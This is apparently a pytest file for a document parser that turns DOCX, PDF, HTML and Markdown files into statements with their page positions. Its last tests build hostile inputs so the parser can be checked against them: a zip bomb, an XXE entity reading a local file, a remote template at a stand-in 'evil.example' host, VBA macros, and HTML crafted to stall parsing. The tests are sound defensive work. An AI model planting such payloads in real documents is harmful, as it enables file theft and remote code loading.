"""A manuscript in any form becomes statements with their places."""

import time
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from indexing import BBox, Cell, EncryptedFile, Page, ParsedPage
from plugins.audit.errors import DocumentUnreadable
from plugins.audit.manuscripts import Manuscript, PagePlace, read_manuscript
from plugins.audit.manuscripts.composition import Block, build_manuscript
from plugins.audit.manuscripts.manuscript import markdown_manuscript
from plugins.audit.manuscripts.pages import page_blocks
from rag.attribution import ENTRY, listed_entries
from tests.support import documents
from tests.support.fakes import Kind, element
from tests.support.word_files import repacked, word_report


def test_a_statement_knows_what_it_stands_under_and_where() -> None:
    found = build_manuscript(
        "r",
        "docx",
        [
            Block("heading", "2 Ferries", 1),
            Block("text", "The company has ships. Two of them burn oil:"),
            Block("item", "• the Alma", 0),
            Block("head", "Ship | Seats", cells=("Ship", "Seats")),
            Block("row", "Alma | 120", cells=("Alma", "120"), head=("Ship", "Seats")),
        ],
    )
    said = [(s.text, s.under, s.heading, s.item) for s in found.statements]
    assert said == [
        ("Ferries", (), True, False),
        ("The company has ships.", ("Ferries",), False, False),
        ("Two of them burn oil:", ("Ferries",), True, False),
        ("the Alma", ("Ferries", "Two of them burn oil"), False, True),
        ("Ship: Alma; Seats: 120", ("Ferries", "Two of them burn oil"), False, False),
    ]
    assert found.text[found.statements[1].start : found.statements[1].end] == "The company has ships."
    assert found.text[found.statements[4].start : found.statements[4].end] == "Alma | 120"


def test_a_bibliography_is_no_claim_until_the_next_heading_of_its_rank() -> None:
    found = build_manuscript(
        "r",
        "pages",
        [
            Block("heading", "5. Literaturverzeichnis", 1),
            Block("text", "Holm, A. (1887). On lamps. Bergen: Lys."),
            Block("heading", "A", 2),
            Block("item", "[2] Berg, B. On ferries, 1901."),
            Block("heading", "Appendix", 1),
            Block("text", "The lamp was lit in 1887."),
        ],
    )
    assert [bool(s.remark) for s in found.statements if not s.heading] == [True, True, False]


def test_what_stands_under_contents_is_no_claim_but_for_sentences() -> None:
    found = build_manuscript(
        "r",
        "pages",
        [
            Block("heading", "Table of Contents", 1),
            Block("row", "Ferries | 8", cells=("Ferries", "8")),
            Block("text", "The lamp was lit in 1887."),
            Block("text", "\u00a9 Holm 2016"),
        ],
    )
    assert [bool(s.remark) for s in found.statements[1:]] == [True, False, True]


@pytest.mark.parametrize("mark", ["2", "²", "²¹"])
def test_the_mark_of_a_footnote_ends_no_sentence_of_its_own_and_is_no_number(mark: str) -> None:
    text = f"The lamp burned oil.{mark} It was lit in 1887. Q4. Its keeper left."
    found = build_manuscript("r", "pages", [Block("text", text)])
    assert [s.text for s in found.statements] == ["The lamp burned oil.", "It was lit in 1887. Q4.", "Its keeper left."]


TEXT = """# Lights

The **lamp** of Holm was lit in 1887 [3]. Its keeper was [Ada Holm](https://holm.example/ada).[^1]

- Ships:
  - the `Alma`

| Ship | Seats |
|------|-------|
| Alma | 120   |

[^1]: Parish register, 1890.
"""


def test_entries_of_a_bibliography_are_remarks_with_the_lines_below_them() -> None:
    entries = "- [1] Ada Holm. Lamps.\n  Quay Press, 1890.\n- [2] Bo Li. Tides.\n\n"
    text = f"The lamp was lit in 1887 [1].\n\n## References\n\n{entries}"
    claim, heading, first, second = markdown_manuscript("r.md", text).statements
    assert (claim.remark, heading.heading) == ("", True)
    assert (first.text, first.remark) == ("[1] Ada Holm. Lamps. Quay Press, 1890.", ENTRY)
    assert text[first.start : first.end] == "- [1] Ada Holm. Lamps.\n  Quay Press, 1890."
    assert [reference.label for reference in listed_entries((claim, heading, first, second))] == ["1", "2"]


def test_each_statement_has_its_characters_links_and_footnotes() -> None:
    found = markdown_manuscript("r.md", TEXT)
    by_text = {s.text: s for s in found.statements}
    lamp = by_text["The lamp of Holm was lit in 1887 [3]."]
    assert TEXT[lamp.start : lamp.end] == "The **lamp** of Holm was lit in 1887 [3]."
    keeper = next(s for s in found.statements if s.text.startswith("Its keeper"))
    assert keeper.links == ("https://holm.example/ada",)
    assert keeper.footnotes == ("Parish register, 1890.",)
    row = by_text["Ship: Alma; Seats: 120"]
    assert TEXT[row.start : row.end] == "| Alma | 120   |"


def page(number: int, *pieces: tuple[Kind, str]) -> ParsedPage:
    elements = tuple(element(text, "d", number, n, kind) for n, (kind, text) in enumerate(pieces, 1))
    return ParsedPage(Page("d", number, 420.0, 595.0), elements)


def said(*pages: ParsedPage) -> list[str]:
    return [s.text for s in build_manuscript("r", "pages", page_blocks(pages)).statements]


@pytest.mark.parametrize("mark", ["1", "¹"])
def test_a_sentence_goes_on_over_a_figure_a_footnote_and_a_page(mark: str) -> None:
    pages = (
        page(
            1,
            ("header", "The lights"),
            ("text", "The lamp of Holm was first lit in the spring of the year"),
            ("text", f"{mark}The keeper wrote it down."),
            ("footer", "1"),
        ),
        page(2, ("caption", "Figure 1: The tower."), ("picture", "40 steps"), ("text", "in which it was built.")),
    )
    assert said(*pages) == [
        "The lamp of Holm was first lit in the spring of the year in which it was built.",
        "The keeper wrote it down.",
        "Figure 1: The tower.",
    ]
    first = build_manuscript("r", "pages", page_blocks(pages)).statements[0]
    assert [p.page for p in first.places if isinstance(p, PagePlace)] == [1, 2]
    assert all(p.boxes for p in first.places if isinstance(p, PagePlace))


def test_a_line_that_stands_on_every_page_is_left_out() -> None:
    pages = [page(n, ("text", f"Holm Papers {n}"), ("text", f"Ship {n} has seats.")) for n in range(1, 4)]
    assert said(*pages) == ["Ship 1 has seats.", "Ship 2 has seats.", "Ship 3 has seats."]


def test_a_table_is_read_row_by_row_under_its_head() -> None:
    text = "Ship | Seats\nAlma | 120"
    box = BBox(0.1, 0.1, 0.4, 0.2)
    spans = ((0, 4), (7, 12), (13, 17), (20, 23))
    cells = tuple(Cell(n // 2, n % 2, 1, 1, start, end, box, n < 2) for n, (start, end) in enumerate(spans))
    table = replace(element(text, "d", 1, 1, "table"), cells=cells)
    found = build_manuscript("r", "pages", page_blocks([ParsedPage(Page("d", 1, 420.0, 595.0), (table,))]))
    assert [s.text for s in found.statements] == ["Ship: Alma; Seats: 120"]
    assert found.statements[0].places == (PagePlace(1, (box, box)),)


def test_a_pdf_is_read_with_its_pages_told_and_opened_by_its_password(tmp_path: Path) -> None:
    told: list[tuple[int, int]] = []
    locked = documents.encrypted(tmp_path / "locked.pdf")
    with pytest.raises(EncryptedFile, match="encrypted"):
        read_manuscript(locked)
    found = read_manuscript(locked, "open sesame", on_page=lambda done, total: told.append((done, total)))
    assert found.form == "pages"
    assert found.statements
    assert told[-1][0] == told[-1][1] == len(told)


@pytest.mark.slow
@pytest.mark.gate
def test_a_scan_is_read_by_ocr(tmp_path: Path) -> None:
    found = read_manuscript(documents.scanned(tmp_path / "scan.pdf", ["The lamp of Holm was lit in 1887."]))
    assert "1887" in found.text
    assert found.statements[0].places


def page_of_web_page(folder: Path, body: str, name: str = "page.html") -> Manuscript:
    path = folder / name
    path.write_text(f"<!doctype html><html><body>{body}</body></html>", encoding="utf-8")
    return read_manuscript(path)


def test_paragraphs_lists_and_tables_are_read_in_order(tmp_path: Path) -> None:
    found = page_of_web_page(
        tmp_path,
        "<h1>On <em>lights</em></h1><p>The lamp\nwas <b>lit</b> in 1887.</p>"
        "<ul><li>Ships:<ul><li>the Alma</li></ul></li></ul>"
        "<table><tr><th>Ship</th><th>Seats</th></tr><tr><td>Alma</td><td>120</td></tr></table>"
        "<div>Loose text. <p>A paragraph.</p>Its tail.</div>",
    )
    assert [s.text for s in found.statements] == [
        "On lights", "The lamp was lit in 1887.", "Ships:", "the Alma", "Ship: Alma; Seats: 120",
        "Loose text.", "A paragraph.", "Its tail.",
    ]  # fmt: skip
    assert [found.text[s.start : s.end] for s in found.statements][1] == "The lamp was lit in 1887."
    assert found.statements[3].under == ("On lights", "Ships")


@pytest.mark.parametrize(
    "hidden",
    [
        "<script>document.write('It has 9 seats.')</script>", "<style>p::after{content:'It has 9 seats.'}</style>",
        "<p style='DISPLAY : none'>It has 9 seats.</p>", "<p hidden>It has 9 seats.</p>",
        "<span aria-hidden='true'>It has 9 seats.</span>", "<p style='font-size:0px'>It has 9 seats.</p>",
        "<p style='position:absolute;left:-9999px'>It has 9 seats.</p>", "<del>It has 9 seats.</del>",
        "<!-- It has 9 seats. -->", "<template><p>It has 9 seats.</p></template>",
    ],
)  # fmt: skip
def test_what_is_hidden_or_struck_out_is_not_read(tmp_path: Path, hidden: str) -> None:
    found = page_of_web_page(tmp_path, f"<p>Before.</p>{hidden}<p>After it.</p>")
    assert [s.text for s in found.statements] == ["Before.", "After it."]


@pytest.mark.parametrize("mark", ["<sup><a href='#n1'>1</a></sup>", "<a href='#n1'><sup>1</sup></a>"])
def test_links_and_footnotes_are_kept(tmp_path: Path, mark: str) -> None:
    found = page_of_web_page(
        tmp_path,
        f"<p>The lamp was lit.{mark} See <a href='https://holm.example'>the register</a>.</p>"
        "<p id='n1'>Register of 1890. <a href='#r'>\u21a9</a></p>",
    )
    first, second, note = found.statements
    assert (first.text, first.footnotes) == ("The lamp was lit.", ("Register of 1890.",))
    assert (second.text, second.links) == ("See the register.", ("https://holm.example",))
    assert note.text == "Register of 1890."


@pytest.mark.parametrize(
    "body",
    ["<div>" * 100_000 + "x", "<p><a href='#f'>1</a> a. " * 20_000, "<a href='https://x.example'>a " * 60_000,
     "<table><tr><td>a 5" * 20_000, f"<p style='{'left:-' * 300_000}'>x is 5.</p>",
     "<p id='f'>" + "word " * 100_000 + "</p>" + "<p>x.<a href='#f'>1</a></p>" * 20_000],
    ids=["deep", "notes", "links", "tables", "style", "one-note"],
)  # fmt: skip
def test_a_page_that_is_made_to_do_harm_takes_little_time(tmp_path: Path, body: str) -> None:
    begun = time.process_time()
    page_of_web_page(tmp_path, body)
    assert time.process_time() - begun < 20


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return word_report(tmp_path_factory.mktemp("word") / "report.docx")


@pytest.fixture(scope="module")
def found(report: Path) -> Manuscript:
    return read_manuscript(report)


def test_a_zip_bomb_is_not_unpacked(tmp_path: Path) -> None:
    path = tmp_path / "bomb.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * 50_000_000)
    with pytest.raises(DocumentUnreadable, match="unpacks to 50 MB"):
        read_manuscript(path)


def test_entities_are_not_expanded(report: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("The vault has 7 keys.")
    head = f'<!DOCTYPE w [<!ENTITY x SYSTEM "{secret.as_uri()}">]><w:document'
    path = repacked(
        tmp_path / "entity.docx",
        repacked(tmp_path / "a.docx", report.read_bytes(), {"word/document.xml": ("<w:document", head)}).read_bytes(),
        {"word/document.xml": ("The tower is white.", "&x; The tower is white.")},
    )
    assert not any("vault" in s.text for s in read_manuscript(path).statements)


def test_what_it_would_load_is_told_and_not_loaded(report: Path, tmp_path: Path) -> None:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    relation = f'<Relationship Id="rId77" Type="{kind}" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    end = "</Relationships>"
    changed = {"word/_rels/document.xml.rels": (end, relation + end)}
    found = read_manuscript(repacked(tmp_path / "t.docx", report.read_bytes(), changed))
    assert "http://evil.example/t.dotm" in found.notes[0]


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [("word/vbaProject.bin", b"x", "it contains macros"), ("other.txt", b"x", "")],
)
def test_macros_are_refused(report: Path, tmp_path: Path, name: str, content: bytes, said: str) -> None:
    path = repacked(tmp_path / "m.docx", report.read_bytes(), {}, {name: content})
    if said:
        with pytest.raises(DocumentUnreadable, match=said):
            read_manuscript(path)
    else:
        assert read_manuscript(path).statements


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"PK\x03\x04 cut short", "is damaged or cut short"),
        (b"\xd0\xcf\x11\xe0 old", "a locked or old Word file"),
    ],
)
def test_what_is_no_word_file_is_told(tmp_path: Path, data: bytes, said: str) -> None:
    path = tmp_path / "odd.docx"
    path.write_bytes(data)
    with pytest.raises(DocumentUnreadable, match=said):
        read_manuscript(path)
